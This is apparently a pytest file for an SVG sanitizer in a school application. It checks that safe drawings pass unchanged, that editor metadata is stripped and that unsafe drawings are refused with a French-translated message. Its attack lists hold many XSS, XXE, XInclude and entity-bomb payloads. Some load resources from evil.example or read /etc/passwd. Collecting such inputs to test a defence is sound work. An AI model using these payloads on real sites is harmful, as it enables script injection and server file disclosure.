"""Drawings: what is safe passes as it is, what is not is named."""

from __future__ import annotations

import base64
import time
from pathlib import Path

import pytest

from binder.errors import Invalid
from binder.media import svg
from lti.i18n import texts
from lti.views.wording import told
from tests import media

SCHOOL = Path(__file__).parents[2] / "examples" / "school"
DRAWINGS = sorted(SCHOOL.rglob("*.svg"))
OPEN = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 20">'
)
HTML = 'xmlns:h="http://www.w3.org/1999/xhtml"'


def drawing(inner: str) -> bytes:
    return f"{OPEN}{inner}</svg>".encode()


@pytest.mark.parametrize("path", DRAWINGS, ids=lambda path: f"{path.parent.parent.name}-{path.stem}")
def test_the_drawings_of_the_school_pass_bit_for_bit(path: Path) -> None:
    data = path.read_bytes()
    found = svg.check(data)
    assert found.data == data
    assert found.width == 480
    assert found.height


ATTACKS = {
    "script": "<script>alert(1)</script>",
    "script from elsewhere": '<script href="https://evil.example/x.js"/>',
    "script with a prefix": '<s:script xmlns:s="http://www.w3.org/2000/svg">alert(1)</s:script>',
    "script in capitals": "<SCRIPT>alert(1)</SCRIPT>",
    "script in what is left out": "<metadata><script>alert(1)</script></metadata>",
    "script inside an unknown vocabulary": '<x:y xmlns:x="urn:x"><script>alert(1)</script></x:y>',
    "html script": f"<h:script {HTML}>alert(1)</h:script>",
    "html in what is left out": f'<metadata><h:img {HTML} src="x" onerror="alert(1)"/></metadata>',
    "html as the default": '<g><body xmlns="http://www.w3.org/1999/xhtml"><p>x</p></body></g>',
    "handler": '<rect onload="alert(1)"/>',
    "handler in capitals": '<rect ONCLICK="alert(1)"/>',
    "handler with a prefix": '<rect xmlns:s="http://www.w3.org/2000/svg" s:onclick="alert(1)"/>',
    "handler of an animation": '<animate attributeName="x" onbegin="alert(1)"/>',
    "foreign object": f"<foreignObject><h:iframe {HTML}/></foreignObject>",
    "frame": '<iframe src="javascript:alert(1)"/>',
    "object": '<object data="x.html"/>',
    "video": '<video src="https://evil.example/x"/>',
    "handler element": '<handler type="text/javascript">alert(1)</handler>',
    "link that runs": '<a href="javascript:alert(1)"><text>x</text></a>',
    "link that runs, xlink": '<a xlink:href="javascript:alert(1)"><text>x</text></a>',
    "link that runs, spelt oddly": '<a href=" java&#10;script:alert(1)"><text>x</text></a>',
    "link elsewhere": '<a href="https://evil.example/"><text>x</text></a>',
    "link to data": '<a href="data:text/html,%3Cscript%3Ealert(1)%3C/script%3E"><text>x</text></a>',
    "use from elsewhere": '<use href="https://evil.example/x.svg#a"/>',
    "use from data": '<use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/>',
    "use of a relative file": '<use xlink:href="x.svg#a"/>',
    "picture from elsewhere": '<image href="https://evil.example/pixel.png"/>',
    "picture that is a drawing": '<image href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4="/>',
    "picture without base64": '<image href="data:image/png,%89PNG"/>',
    "picture that is damaged": '<image href="data:image/png;base64,AAAA"/>',
    "filter from elsewhere": '<filter id="a"><feImage href="//evil.example/x"/></filter>',
    "animated address": '<a href="#x"><animate attributeName="href" values="javascript:alert(1)"/></a>',
    "animated address, xlink": '<use href="#x"><set attributeName="xlink:href" to="https://evil.example"/></use>',
    "animated address without a scheme": '<a href="#x"><set attributeName="href" to="evil.html"/></a>',
    "animated handler": '<rect><set attributeName="onclick" to="alert(1)"/></rect>',
    "animation of nothing named": '<rect><animate values="javascript:alert(1)"/></rect>',
    "animated fill": '<rect><set attributeName="fill" to="url(https://evil.example/x)"/></rect>',
    "style from elsewhere": "<style>@import url(https://evil.example/x.css);</style>",
    "style with a font": "<style>@font-face{font-family:a;src:url(https://evil.example/f)}</style>",
    "style with an address": "<style>rect{background:url('//evil.example/x')}</style>",
    "style in CDATA": "<style><![CDATA[rect{fill:url(https://evil.example/x)}]]></style>",
    "style with an escape": "<style>rect{fill:u\\72l(https://evil.example/x)}</style>",
    "style with a set of pictures": "<rect style=\"mask-image:image-set('//evil.example/x' 1x)\"/>",
    "style attribute": '<rect style="fill:url(https://evil.example/x)"/>',
    "style attribute, capitals": '<rect style="fill:URL( //evil.example/x )"/>',
    "style that runs": '<rect style="behavior:url(#default#x);width:expression(alert(1))"/>',
    "style that binds": '<rect style="-moz-binding:none"/>',
    "style that closes": "<style>rect{} &lt;/style&gt;&lt;script&gt;</style>",
    "paint from elsewhere": '<rect fill="url(https://evil.example/x#a)"/>',
    "paint with an escape": '<rect fill="u\\000072l(//evil.example/x#a)"/>',
    "mask from a set": '<rect mask="image-set(url(//evil.example/x) 1x)"/>',
    "other base": '<g xml:base="https://evil.example/"><use href="#a"/></g>',
    "element nobody knows": "<blink/>",
    "mathematics": '<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:alert(1)"/>',
    "include": '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>',
    "binding": '<b:bindings xmlns:b="http://www.mozilla.org/xbl"/>',
    "prefix nobody declared": "<q:rect/>",
}
WHOLE = {
    "entities": b'<!DOCTYPE svg [<!ENTITY a "b">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
    "a billion laughs": b'<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
    "a file of the server": b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
    "attributes by definition": b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>'
    b'<svg xmlns="http://www.w3.org/2000/svg"/>',
    "a style sheet": b'<?xml-stylesheet href="https://evil.example/x.css"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "a transformation": b'<?xml-stylesheet type="text/xsl" href="#x"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "handler at the root": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "html at the root": b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>',
    "no namespace": b"<svg><script>alert(1)</script></svg>",
    "another root": b'<rect xmlns="http://www.w3.org/2000/svg"/>',
    "UTF-7": b'<?xml version="1.0" encoding="UTF-7"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "UTF-16": '<?xml version="1.0" encoding="UTF-16"?><svg xmlns="http://www.w3.org/2000/svg"/>'.encode(
        "utf-16"
    ),
    "latin 1": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><text>\xe9</text></svg>',
    "broken": b'<svg xmlns="http://www.w3.org/2000/svg"><g></svg>',
    "something behind it": b'<svg xmlns="http://www.w3.org/2000/svg"/><script>alert(1)</script>',
    "nothing": b"",
}


@pytest.mark.parametrize(
    "data",
    [*map(drawing, ATTACKS.values()), *WHOLE.values()],
    ids=[*ATTACKS, *WHOLE],
)
def test_an_unsafe_drawing_is_refused_in_french_too(data: bytes) -> None:
    with pytest.raises(Invalid) as refused:
        svg.check(data)
    (message,) = refused.value.messages["file"]
    assert message.startswith("this drawing ")
    assert message.endswith(": save it as PNG")
    assert told(message, texts("fr")).startswith("ce dessin ")


SAFE = {
    "gradients and symbols": '<defs><linearGradient id="a"><stop offset="0" stop-color="#fff"/></linearGradient>'
    '<symbol id="b"><path d="M0 0L1 1"/></symbol></defs><use href="#b" fill="url(#a)"/><use xlink:href="#b"/>',
    "styles": '<style>.a{fill:url(#a);stroke:rgb(1,2,3)}@media print{.a{fill:none}}</style><g class="a"/>',
    "style attribute": '<rect style="fill:url(\'#a\');transform:rotate(10deg)" transform="rotate(10 5 5)"/>',
    "animation": '<circle r="3"><animate attributeName="r" values="3;5;3" dur="2s" repeatCount="indefinite"/></circle>',
    "filter": '<filter id="f"><feGaussianBlur stdDeviation="2"/></filter><rect filter="url(#f)"/>',
    "words": '<text xml:lang="fr" aria-label="f(x)">url(x) &amp; &lt;b&gt; « été »</text>',
    "picture": f'<image href="data:image/png;base64,{base64.b64encode(media.saved(media.picture(), "PNG")).decode()}"/>',
}


@pytest.mark.parametrize("inner", SAFE.values(), ids=list(SAFE))
def test_a_safe_drawing_stays_as_it_is(inner: str) -> None:
    found = svg.check(drawing(inner))
    assert found.data == drawing(inner)
    assert (found.width, found.height) == (40, 20)


def test_what_an_editor_notes_is_left_out() -> None:
    data = b"""<?xml version="1.0" encoding="UTF-8"?><!-- made by Claire -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<?editor state?><svg xmlns="http://www.w3.org/2000/svg" xmlns:i="http://www.inkscape.org/namespaces/inkscape"
 width="40px" height="20" i:export-filename="/home/claire/a.png" data-name="claire">
<metadata><r:RDF xmlns:r="urn:rdf">Claire</r:RDF></metadata><i:view a="claire"><i:more/></i:view>
<text i:label="claire" x="1">&lt;a&gt; &amp; "b"</text></svg>"""
    found = svg.check(data)
    assert b"laire" not in found.data
    assert (found.width, found.height) == (40, 20)
    assert b'<text x="1">&lt;a&gt; &amp; "b"</text>' in found.data
    assert svg.check(found.data).data == found.data


def test_a_photo_in_a_drawing_loses_its_place() -> None:
    photo = base64.b64encode(media.jpeg()).decode()
    found = svg.check(drawing(f'<image width="9" href="data:image/jpeg;base64,{photo}"/>')).data.decode()
    inner = base64.b64decode(found.partition("base64,")[2].partition('"')[0])
    assert b"Appareil" not in inner
    assert media.asked(inner).size == (64, 48)


@pytest.mark.parametrize(
    ("root", "size"),
    [
        ('width="480" height="320.4"', (480, 320)),
        ('width="48mm" height="32mm" viewBox="0,0, 96 64"', (96, 64)),
        ('width="100%"', (None, None)),
        ('width="0" height="5"', (None, None)),
        ('viewBox="0 0 a b"', (None, None)),
        ('viewBox="0 0 1e999 5"', (None, None)),
    ],
)
def test_the_size_is_read_where_it_is_told(root: str, size: tuple[int | None, int | None]) -> None:
    found = svg.check(f'<svg xmlns="http://www.w3.org/2000/svg" {root}/>'.encode())
    assert (found.width, found.height) == size


@pytest.mark.parametrize(
    ("data", "why"),
    [
        (drawing("<g>" * 200 + "</g>" * 200), "complicated"),
        (drawing("<g/>" * 60_000), "complicated"),
        (drawing(" " * 5_000_000), "large"),
    ],
    ids=["deep", "many", "long"],
)
def test_a_drawing_that_wears_a_browser_out_is_refused_at_once(data: bytes, why: str) -> None:
    start = time.process_time()
    with pytest.raises(Invalid) as refused:
        svg.check(data)
    assert why in refused.value.messages["file"][0]
    assert time.process_time() - start < 1


def test_hostile_markup_of_the_largest_size_is_looked_through_fast() -> None:
    parts = (
        '<rect style="' + "a(" * 1000 + '"/>',
        '<rect fill="' + "url(" * 1000 + '"/>',
        '<g a="' + "x" * 5000 + '"/>',
    )
    for part in parts:
        data = drawing(part * (4_000_000 // len(part)))
        start = time.process_time()
        try:
            svg.check(data)
        except Invalid:
            pass
        assert time.process_time() - start < 2
